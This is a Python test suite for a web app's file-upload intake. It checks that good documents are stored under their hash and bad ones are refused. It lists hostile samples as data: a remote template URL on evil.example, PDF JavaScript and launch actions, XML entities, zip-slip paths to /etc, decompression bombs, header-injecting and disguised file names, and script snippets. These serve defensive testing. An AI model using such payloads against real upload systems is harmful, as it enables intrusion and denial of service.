"""What is taken in, and what is refused with which sentence."""

import contextlib
import gzip
import hashlib
import re
import resource
import stat
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import settings as profile
from hypothesis import strategies as st

from pochin.core.lifecycle import Refused
from pochin.files import kinds, names, store
from pochin.files.intake import forget, receive
from pochin.files.limits import MB, Limits
from pochin.files.models import File
from pochin.files.tests import corpus

NOON = datetime(2026, 3, 2, 9, tzinfo=UTC)
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

GOOD = {
    "a.pdf": corpus.pdf(),
    "a.png": corpus.png(),
    "a.jpg": corpus.jpeg(),
    "a.jpeg": corpus.jpeg(tail=b"a film of the camera"),
    "a.webp": corpus.webp(),
    "a.docx": corpus.docx(),
    "a.xlsx": corpus.xlsx(),
    "a.pptx": corpus.pptx(),
    "a.odt": corpus.odt(),
    "a.ods": corpus.odt("spreadsheet"),
    "a.zip": corpus.archive({"readings.csv": b"unit,value\n1,2\n", "a/": b""}),
    "b.zip": corpus.archive({"offer.docx": corpus.docx(), "offer.pdf": corpus.pdf()}),
    "c.zip": corpus.nested(3),  # as deep as is allowed
    "a.csv": "отделение;очередь\n101000;4,2\n".encode("cp1251"),
    "b.csv": "\ufeffотделение;очередь\r\n101000;4,2\r\n".encode(),
    "a.txt": "Здравствуйте.\n".encode(),
    "b.txt": "Здравствуйте.\n".encode("utf-16"),
    "form.pdf": corpus.pdf(corpus.packed(b"<< /Type /Annot /URI (https://example.org) >>")),
    "scan.pdf": corpus.pdf(corpus.packed(b"\0" * 5_000_000, b"/Subtype /Image")),
}
MACRO = {"word/vbaProject.bin": b"x"}
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><w:document/>'
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
BAD = {
    # Name and content disagree.
    "png called pdf": ("a.pdf", corpus.png(), "By its name the file is PDF, but inside it is PNG"),
    "nothing called pdf": (
        "a.pdf",
        bytes(range(128, 256)) * 40,
        "it is damaged or of another kind",
    ),
    "pdf called png": ("a.png", corpus.pdf(), "By its name the file is PNG, but inside it is PDF"),
    "docx called xlsx": ("a.xlsx", corpus.docx(), "is XLSX, but inside it is DOCX"),
    "zip called docx": ("a.docx", corpus.archive({"a": b"b"}), "is DOCX, but inside it is ZIP"),
    "text called pdf": ("a.pdf", b"hello", "is PDF, but inside it is plain text"),
    "pdf called txt": ("a.txt", corpus.pdf(), "is plain text, but inside it is PDF"),
    # Nothing, or too little.
    "empty": ("a.pdf", b"", "The file is empty"),
    "half a pdf": ("a.pdf", corpus.pdf()[:200], "The PDF is damaged or incomplete"),
    "half a png": ("a.png", corpus.png()[:-9], "The picture is damaged or incomplete"),
    "half a jpeg": ("a.jpg", corpus.jpeg()[:-2], "The picture is damaged or incomplete"),
    "head of a jpeg": ("a.jpg", corpus.jpeg()[:30], "The picture is damaged or incomplete"),
    "half a webp": ("a.webp", corpus.webp()[:-3], "The picture is damaged or incomplete"),
    "half an archive": ("a.zip", GOOD["a.zip"][:-9], "The archive is damaged or incomplete"),
    "damaged archive": (
        "a.zip",
        corpus.archive({"a": b"words " * 99}, method=0).replace(b"words", b"WORDS", 1),
        "The archive is damaged or incomplete",
    ),
    # Kinds we do not take.
    "no ending": ("letter", b"hello", "Files of this kind are not taken"),
    "svg": ("a.svg", b"<svg/>", "can run programs (.svg)"),
    "html": ("a.html", b"<html>", "can run programs (.html)"),
    "macros by name": ("a.docm", corpus.docx(**MACRO), "can run programs (.docm)"),
    "program by name": ("a.exe", b"MZ", "can run programs (.exe)"),
    "turned name": ("report\u202efdp.exe", b"MZ", "can run programs (.exe)"),
    "program called csv": ("a.csv", b"MZ\x90\x00\x03", "The file is a program"),
    "program of linux": ("a.txt", b"\x7fELF\x02\x01", "The file is a program"),
    "old office": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "before 2007"),
    "rar": ("a.zip", b"Rar!\x1a\x07\x01\x00", "Of archives, only ZIP is accepted"),
    "gif": ("a.png", b"GIF89a=1;alert(1)", "Pictures of this kind are not taken"),
    "page called txt": ("a.txt", b"\n <!DOCTYPE html><script>", "is a web page or a program"),
    "svg called csv": ("a.csv", b"<svg onload=alert(1)>", "is a web page or a program"),
    "script called txt": ("a.txt", b"#!/bin/sh\nrm", "is a web page or a program"),
    "bytes called txt": ("a.txt", b"a\0b", "This is no plain text"),
    "not even cp1251": ("a.csv", b"\x98\x98", "This is no plain text"),
    "half of utf-16": ("a.csv", b"\xff\xfea", "This is no plain text"),
    # Two things at once.
    "pdf and page": ("a.pdf", b"%PDF-1.4 <html><script>" + corpus.pdf(), "two things at once"),
    "pdf and archive": ("a.pdf", corpus.pdf() + GOOD["a.zip"], "two things at once"),
    "jpeg and archive": ("a.jpg", corpus.jpeg(tail=GOOD["a.zip"]), "two things at once"),
    "png and words": ("a.png", corpus.png() + b"<script>", "The picture is damaged"),
    "archive behind words": ("a.zip", b"PK\x03\x04words" + GOOD["a.zip"], "glued in front"),
    # PDF that does things.
    "script": ("a.pdf", corpus.pdf(SCRIPT), "The PDF holds a program"),
    "escaped script": ("a.pdf", corpus.pdf(b"/J#61va#53cript"), "The PDF holds a program"),
    "packed script": ("a.pdf", corpus.pdf(corpus.packed(SCRIPT)), "The PDF holds a program"),
    "script on a seam": (
        "a.pdf",
        corpus.pdf(corpus.packed(b" " * (MB - 5) + SCRIPT)),
        "The PDF holds a program",
    ),
    "launch": ("a.pdf", corpus.pdf(b"<< /S /Launch /F (cmd) >>"), "The PDF holds a program"),
    "locked pdf": ("a.pdf", corpus.pdf(b"<< /Encrypt 9 0 R >>"), "The PDF is protected"),
    "pdf bomb": ("a.pdf", corpus.pdf(corpus.packed(b"\0" * 30 * MB)), "200 times its size"),
    # Pictures too large to draw.
    "png bomb": ("a.png", corpus.png(50_000, 50_000), "50000 × 50000 pixels; reduce it to 80"),
    "jpeg bomb": ("a.jpg", corpus.jpeg(65_000, 65_000), "65000 × 65000 pixels"),
    "webp bomb": ("a.webp", corpus.webp(16_000, 16_000), "16000 × 16000 pixels"),
    "no pixels": ("a.png", corpus.png(0, 5), "0 × 5 pixels"),
    # Office documents that do things.
    "macros inside": ("a.docx", corpus.docx(**MACRO), "holds macros"),
    "object inside": ("a.xlsx", corpus.xlsx(**{"xl/embeddings/oleObject1.bin": b""}), "macros"),
    "macros declared": (
        "a.docx",
        corpus.docx(**{"[Content_Types].xml": b"x.macroEnabled.main+xml"}),
        "holds macros",
    ),
    "macros of writer": ("a.odt", corpus.odt(**{"Basic/script.xml": b""}), "holds macros"),
    "entities": ("a.docx", corpus.docx(**{"word/a.xml": DOCTYPE.encode()}), "declares entities"),
    "entities in utf-16": (
        "a.docx",
        corpus.docx(**{"word/a.xml": DOCTYPE.encode("utf-16")}),
        "declares entities",
    ),
    "entities behind a wall": (
        "a.docx",
        corpus.docx(**{"word/a.xml": b" " * 65_530 + DOCTYPE.encode()}),
        "declares entities",
    ),
    "remote template": (
        "a.docx",
        corpus.docx(**{"word/_rels/settings.xml.rels": TEMPLATE}),
        "fetch a template from elsewhere",
    ),
    # Archives.
    "zip bomb": ("a.zip", corpus.archive({"a": b"\0" * 30 * MB}), "200 times its size"),
    "nested bomb": (
        "a.zip",
        corpus.archive({"a.zip": corpus.archive({"a": b"\0" * 30 * MB})}),
        "200 times its size",
    ),
    "too deep": ("a.zip", corpus.nested(4), "archives in archives"),
    "slip": ("a.zip", corpus.archive({"../../etc/cron.d/a": b""}), "points outside of it"),
    "absolute": ("a.zip", corpus.archive({"/etc/passwd": b""}), "points outside of it"),
    "windows slip": ("a.zip", corpus.archive({"..\\a": b""}), "points outside of it"),
    "drive": ("a.zip", corpus.archive({"C:a": b""}), "points outside of it"),
    "NUL in a name": (
        "a.zip",
        corpus.renamed(corpus.archive({"a_txt": b""}), b"a_txt", b"a\0txt"),
        "points outside of it",
    ),
    "link": ("a.zip", corpus.linked(), "holds links"),
    "locked": ("a.zip", corpus.flagged(corpus.archive({"a": b"b"})), "locked by a password"),
    "rare method": ("a.zip", corpus.archive({"a": b"b" * 99}, method=12), "a way we cannot check"),
    "overlap": ("a.zip", corpus.overlapping(), "Files overlap"),
    "one name twice": ("a.zip", corpus.archive({"a.txt": b"", "A.TXT": b""}), "have one name"),
    "program inside": ("a.zip", corpus.archive({"go.exe": b"x"}), "a program or a web page"),
    "hidden program": ("a.zip", corpus.archive({"go.txt": b"MZ\x90"}), "a program or a web page"),
    "gzip inside": (
        "a.zip",
        corpus.archive({"a": gzip.compress(b"a")}),
        "a packing we cannot look into",
    ),
    "script in pdf": ("a.zip", corpus.archive({"a.pdf": corpus.pdf(SCRIPT)}), "holds a program"),
    "macros in docx": ("a.zip", corpus.archive({"a.docx": corpus.docx(**MACRO)}), "holds macros"),
}


def folder_of(settings) -> Path:
    return Path(settings.STORAGES["default"]["OPTIONS"]["location"])


def files_in(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


@pytest.mark.parametrize("name", GOOD)
def test_a_good_document_is_kept_under_its_hash(name, anna, settings):
    data = GOOD[name]

    file = receive(corpus.upload(name, data), by=anna, at=NOON)

    sha256 = hashlib.sha256(data).hexdigest()
    assert (file.sha256, file.size, file.name) == (sha256, len(data), name)
    assert (file.state, file.uploaded_by, file.uploaded_at) == ("ready", anna, NOON)
    assert file.kind == kinds.BY_ENDING[names.extension(name)].code
    assert files_in(folder_of(settings)) == [f"{sha256[:2]}/{sha256}"]
    with store.open_bytes(sha256) as kept:
        assert kept.read() == data


@pytest.mark.parametrize("case", BAD)
def test_a_bad_document_is_refused_with_a_sentence_and_nothing_is_kept(case, anna, settings):
    name, data, sentence = BAD[case]

    with pytest.raises(Refused) as refused:
        receive(corpus.upload(name, data), by=anna, at=NOON)

    words = str(refused.value)
    assert re.search(re.escape(sentence), words), words
    assert words.endswith(".")
    assert files_in(folder_of(settings)) == []
    assert File.objects.count() == 0


def test_a_file_too_large_is_refused_before_it_is_read(anna):
    upload = corpus.upload("a.pdf", b"")
    upload.size = 84 * MB

    with pytest.raises(Refused, match=r"The file is 84 MB; the limit is 50\. Split it"):
        receive(upload, by=anna, at=NOON)


def test_a_file_that_lies_about_its_size_is_cut_off(anna, settings):
    upload = corpus.upload("a.txt", b"a" * 3 * MB)
    upload.size = 10

    with pytest.raises(Refused, match="The file is 3 MB; the limit is 2"):
        receive(upload, by=anna, at=NOON, limits=Limits(size=2 * MB))
    assert files_in(folder_of(settings)) == []


def test_a_door_may_take_fewer_kinds(anna):
    with pytest.raises(Refused, match=r"Here only these kinds are taken: PNG, JPEG, WebP\."):
        receive(corpus.upload("a.pdf", GOOD["a.pdf"]), by=anna, at=NOON, accept=kinds.PICTURES)


def test_an_archive_of_too_many_files_is_refused(anna):
    data = corpus.archive({f"{n}": b"" for n in range(101)})
    few = Limits(entries=100)

    with pytest.raises(Refused, match="it holds over 100 files"):
        receive(corpus.upload("a.zip", data), by=anna, at=NOON, limits=few)


def test_an_endless_list_of_contents_is_not_even_read(anna):
    data = corpus.archive({f"{n}": b"" for n in range(101)})
    small = Limits(directory=1000)

    with pytest.raises(Refused, match=r"it holds over 10000 files"):
        receive(corpus.upload("a.zip", data), by=anna, at=NOON, limits=small)


def test_what_takes_too_long_to_look_into_is_refused(anna):
    hurried = Limits(seconds=-1)

    with pytest.raises(Refused, match="could not check the file in"):
        receive(corpus.upload("a.txt", b"hello"), by=anna, at=NOON, limits=hurried)


def test_equal_bytes_are_kept_once_and_go_with_the_last_file(
    anna, gleb, settings, django_capture_on_commit_callbacks
):
    first = receive(corpus.upload("a.txt", b"hello"), by=anna, at=NOON)
    second = receive(corpus.upload("b.txt", b"hello"), by=gleb, at=NOON)
    assert len(files_in(folder_of(settings))) == 1

    with django_capture_on_commit_callbacks(execute=True):
        forget(first)
    assert store.exists(second.sha256) is True

    with django_capture_on_commit_callbacks(execute=True):
        forget(second)
    assert files_in(folder_of(settings)) == []


def test_damaged_bytes_are_healed_by_the_next_equal_upload(anna, settings):
    file = receive(corpus.upload("a.txt", b"hello"), by=anna, at=NOON)
    (folder_of(settings) / store.place(file.sha256)).write_bytes(b"HELLO")

    receive(corpus.upload("a.txt", b"hello"), by=anna, at=NOON)

    assert store.digest(file.sha256) == file.sha256


def test_nobody_but_the_owner_of_the_server_reads_the_folder(anna, settings):
    file = receive(corpus.upload("a.txt", b"hello"), by=anna, at=NOON)
    path = folder_of(settings) / store.place(file.sha256)

    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_only_the_sender_finds_a_file_without_its_thing(anna, gleb):
    receive(corpus.upload("a.txt", b"hello"), by=anna, at=NOON)

    assert File.objects.visible_to(anna).count() == 1
    assert File.objects.visible_to(gleb).count() == 0


@pytest.mark.parametrize(
    ("given", "cleaned"),
    [
        ("Отчёт за март.PDF", "Отчёт за март.PDF"),
        ("C:\\Users\\anna\\a.pdf", "a.pdf"),
        ("../../etc/passwd", "passwd"),
        ("a\0b.pdf", "ab.pdf"),
        ("report\u202efdp.exe", "reportfdp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("й.pdf", "й.pdf"),
        (".htaccess", "htaccess"),
        ('<"a">.pdf', "__a__.pdf"),
        ("", "file"),
        (None, "file"),
        ("...", "file"),
    ],
)
def test_a_name_is_made_safe(given, cleaned):
    assert names.clean(given) == cleaned


def test_a_long_name_is_cut_between_letters_and_keeps_its_ending():
    cut = names.clean("ж" * 300 + ".docx")

    assert cut == "ж" * 97 + ".docx"
    assert len(cut.encode()) <= 255


@given(st.text(max_size=400))
def test_any_name_becomes_one_that_can_be_kept(name):
    cleaned = names.clean(name)

    assert 0 < len(cleaned.encode()) <= 200
    assert not set(cleaned) & set('/\\\0\r\n"')
    assert names.clean(cleaned) == cleaned


ANY_KIND = st.sampled_from(sorted(kinds.BY_ENDING))


@profile(max_examples=150)
@given(ending=ANY_KIND, good=st.sampled_from(sorted(GOOD)), data=st.data())
def test_a_spoilt_document_is_taken_or_refused_and_never_breaks_us(ending, good, data, anna):
    spoilt = bytearray(GOOD[good][:3000])
    for _change in range(data.draw(st.integers(0, 5))):
        place = data.draw(st.integers(0, len(spoilt) - 1))
        spoilt[place] = data.draw(st.integers(0, 255))
    cut = bytes(spoilt[: data.draw(st.integers(1, len(spoilt)))])

    with contextlib.suppress(Refused):
        receive(corpus.upload(f"a.{ending}", cut), by=anna, at=NOON)


def test_the_largest_files_cost_little_memory_and_time(anna, tmp_path):
    noise = bytes(range(256)) * 4096
    members = {f"{n}.csv": noise.hex().encode() for n in range(20)}
    data = corpus.archive(members, method=0)
    assert 40 * MB < len(data) < 50 * MB
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()

    receive(corpus.upload("a.zip", data), by=anna, at=NOON)

    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 100_000, "kilobytes"
    assert time.monotonic() - began < 20
